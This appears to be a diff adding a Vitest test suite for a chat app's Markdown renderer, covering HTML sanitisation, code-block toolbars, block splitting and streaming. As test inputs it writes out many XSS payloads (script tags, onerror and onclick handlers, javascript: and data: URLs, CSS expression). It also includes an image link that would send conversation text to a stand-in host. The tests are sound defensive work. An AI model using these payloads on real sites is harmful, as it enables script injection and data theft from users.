@@ -0,0 +1,242 @@
+// @vitest-environment jsdom
+import { describe, it, expect, vi, afterEach } from "vitest";
+import DOMPurify from "dompurify";
+import {
+  renderMarkdown,
+  renderMarkdownStreaming,
+  finishStreaming,
+  splitMarkdownBlocks,
+  sanitizeStyle,
+} from "../markdown";
+
+/**
+ * Renders Markdown into a detached element, to inspect what would reach the page.
+ */
+function render(markdown) {
+  const container = document.createElement("div");
+  container.innerHTML = renderMarkdown(markdown);
+  return container;
+}
+
+/**
+ * Lists every event handler attribute and script-like URL left in the output.
+ */
+function dangerousBits(container) {
+  return [...container.querySelectorAll("*")].flatMap((el) =>
+    [...el.attributes]
+      .filter((attr) => /^on/i.test(attr.name) || /^\s*(javascript|vbscript|data:text\/html)/i.test(attr.value))
+      .map((attr) => `${el.tagName.toLowerCase()}[${attr.name}]`),
+  );
+}
+
+describe("renderMarkdown", () => {
+  it("removes scripts, frames and other active content from raw HTML", () => {
+    const container = render(
+      [
+        "<script>alert(1)</script>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
+        "<style>body { display: none }</style>",
+        "<svg onload=alert(1)><use href=\"#x\"/></svg>",
+        "<form action=\"https://evil.example\"><input type=\"text\" name=\"q\"><button>Go</button></form>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+      ].join("\n\n"),
+    );
+
+    for (const tag of ["script", "iframe", "object", "embed", "style", "svg", "form", "meta", "input[type=text]"]) {
+      expect(container.querySelector(tag)).toBeNull();
+    }
+    expect(container.innerHTML).not.toContain("alert");
+    expect(container.querySelector("button").getAttribute("type")).toBe("button");
+  });
+
+  it("strips event handlers and script URLs from allowed tags", () => {
+    const container = render(
+      [
+        "<img src=x onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">raw link</a>",
+        "[markdown link](javascript:alert(1))",
+        "<details open ontoggle=alert(1)><summary>More</summary>Body</details>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">data link</a>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+      ].join("\n\n"),
+    );
+
+    expect(dangerousBits(container)).toEqual([]);
+    expect(container.querySelector("a[href=x]")).not.toBeNull();
+    expect(container.querySelector("details summary").textContent).toBe("More");
+  });
+
+  it("keeps a hostile code block language from breaking out of its attributes", () => {
+    const container = render("```x'\"onmouseover=\"alert(1)\nconsole.log(1)\n```");
+
+    expect(dangerousBits(container)).toEqual([]);
+    const download = container.querySelector('[data-code-action="download"]');
+    expect(download.dataset.lang).toBe("x'\"onmouseover=\"alert(1)");
+    expect(container.querySelector("pre code").className).toBe("hljs xonmouseoveralert1");
+  });
+
+  it("renders code block actions as data attributes instead of inline handlers", () => {
+    const container = render("```python\nprint('hi')\n```");
+
+    const actions = [...container.querySelectorAll("[data-code-action]")];
+    expect(actions.map((button) => button.dataset.codeAction)).toEqual(["canvas", "download", "copy"]);
+    expect(actions.every((button) => !button.hasAttribute("onclick"))).toBe(true);
+    expect(container.querySelector('[data-code-action="canvas"]').dataset.lang).toBe("python");
+    expect(container.querySelector("pre code").textContent).toBe("print('hi')");
+  });
+
+  it("only loads images from data: URLs, showing remote ones as links", () => {
+    const container = render(
+      [
+        "![secret](https://evil.example/?q=conversation)",
+        "<img src=\"https://evil.example/pixel.png\">",
+        "![chart](data:image/png;base64,iVBORw0KGgo=)",
+      ].join("\n\n"),
+    );
+
+    expect([...container.querySelectorAll("img")].map((img) => img.getAttribute("src"))).toEqual([
+      "data:image/png;base64,iVBORw0KGgo=",
+    ]);
+    const links = [...container.querySelectorAll("a")].map((link) => [link.textContent, link.getAttribute("href")]);
+    expect(links).toEqual([
+      ["secret", "https://evil.example/?q=conversation"],
+      ["https://evil.example/pixel.png", "https://evil.example/pixel.png"],
+    ]);
+  });
+
+  it("only keeps code actions on the toolbars it renders", () => {
+    const container = render(
+      [
+        "<button data-code-action=\"download\" data-lang=\"html\">Download</button>",
+        "<div class=\"code-block-wrapper\"><div class=\"code-actions\" data-toolbar=\"guess\"><button data-code-action=\"copy\">Copy</button></div><pre><code>x</code></pre></div>",
+        "```js\nlet a;\n```",
+      ].join("\n\n"),
+    );
+
+    const actions = [...container.querySelectorAll("[data-code-action]")];
+    expect(actions).toHaveLength(3);
+    expect(actions.every((button) => button.closest(".code-block-wrapper").querySelector("pre code").textContent === "let a;")).toBe(true);
+    expect(container.querySelector("[data-toolbar]")).toBeNull();
+    expect(container.querySelectorAll("[data-lang]")).toHaveLength(2);
+  });
+
+  it("drops data attributes and styles that aren't on the allowlist", () => {
+    const container = render(
+      "<div data-code-action=\"copy\" data-secret=\"x\" style=\"position: fixed; inset: 0; color: red; background-color: url(https://evil.example/x.png)\">Overlay</div>",
+    );
+    const div = container.querySelector("div");
+
+    expect(div.hasAttribute("data-secret")).toBe(false);
+    expect(div.getAttribute("style")).toBe("color: red");
+    expect(sanitizeStyle("top: 1em; position: absolute; width: e\\78pression(alert(1))")).toBe("top: 1em");
+  });
+
+  it("still renders everyday Markdown, math, footnotes and task lists", () => {
+    const container = render(
+      [
+        "# Title",
+        "Some **bold** and <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O.",
+        "| Left | Right |\n|:-----|------:|\n| a | b |",
+        "- [x] Done\n- [ ] Not yet",
+        "Math: $\\frac{a}{b}$",
+        "A claim[^1]\n\n[^1]: The source.",
+        "[Docs](https://example.com)",
+      ].join("\n\n"),
+    );
+
+    expect(container.querySelector("h1").textContent).toBe("Title");
+    expect(container.querySelectorAll("kbd")).toHaveLength(2);
+    expect(container.querySelector("th").getAttribute("style")).toBe("text-align: left");
+    const checkboxes = [...container.querySelectorAll("input[type=checkbox]")];
+    expect(checkboxes.map((box) => [box.checked, box.disabled])).toEqual([[true, true], [false, true]]);
+    expect(container.querySelector(".katex math")).not.toBeNull();
+    expect(container.querySelector(".footnotes li").id).toBe("fn1");
+    expect(container.querySelector('a[href="https://example.com"]').textContent).toBe("Docs");
+  });
+});
+
+describe("splitMarkdownBlocks", () => {
+  it("splits at blank lines, keeping fences, math and indented continuations together", () => {
+    const text = [
+      "# Title",
+      "",
+      "Intro paragraph",
+      "",
+      "```js",
+      "const a = 1;",
+      "",
+      "const b = 2;",
+      "```",
+      "",
+      "- item",
+      "",
+      "  continued item",
+      "",
+      "$$",
+      "x",
+      "",
+      "y",
+      "$$",
+      "",
+      "Last words",
+    ].join("\n");
+
+    const { blocks, open, openFence } = splitMarkdownBlocks(text);
+    expect(blocks).toEqual([
+      "# Title\n\n",
+      "Intro paragraph\n\n",
+      "```js\nconst a = 1;\n\nconst b = 2;\n```\n\n",
+      "- item\n\n  continued item\n\n",
+      "$$\nx\n\ny\n$$\n\n",
+    ]);
+    expect(open).toBe("Last words");
+    expect(openFence).toBe(false);
+    expect(blocks.join("") + open).toBe(text);
+  });
+
+  it("leaves an unclosed fence in the open block", () => {
+    expect(splitMarkdownBlocks("Intro\n\n~~~~py\nx = 1\n\n~~~\ny = 2")).toEqual({
+      blocks: ["Intro\n\n"],
+      open: "~~~~py\nx = 1\n\n~~~\ny = 2",
+      openFence: true,
+    });
+  });
+});
+
+describe("renderMarkdownStreaming", () => {
+  afterEach(() => vi.restoreAllMocks());
+
+  it("only renders the block being written on each update", () => {
+    const sanitize = vi.spyOn(DOMPurify, "sanitize");
+    const finished = "# Title\n\nFirst paragraph\n\n";
+
+    const first = renderMarkdownStreaming("m1", `${finished}Second para`);
+    expect(sanitize).toHaveBeenCalledTimes(3);
+
+    const second = renderMarkdownStreaming("m1", `${finished}Second paragraph`);
+    expect(sanitize).toHaveBeenCalledTimes(4);
+    expect(second).toContain("<h1>Title</h1>");
+    expect(second).toContain("<p>Second paragraph</p>");
+    expect(first).not.toBe(second);
+
+    finishStreaming("m1");
+    renderMarkdownStreaming("m1", `${finished}Second paragraph`);
+    expect(sanitize).toHaveBeenCalledTimes(7);
+  });
+
+  it("highlights a code block once it is closed", () => {
+    const container = document.createElement("div");
+    container.innerHTML = renderMarkdownStreaming("m2", "Code:\n\n```js\nconst answer = 42;");
+    expect(container.querySelector("pre code").textContent).toBe("const answer = 42;");
+    expect(container.querySelector("pre code .hljs-keyword")).toBeNull();
+
+    container.innerHTML = renderMarkdownStreaming("m2", "Code:\n\n```js\nconst answer = 42;\n```");
+    expect(container.querySelector("pre code .hljs-keyword").textContent).toBe("const");
+  });
+
+  it("renders like renderMarkdown once every block is finished", () => {
+    const text = "Intro with **bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] Done\n";
+    expect(renderMarkdownStreaming("m3", text)).toBe(renderMarkdown(text));
+  });
+});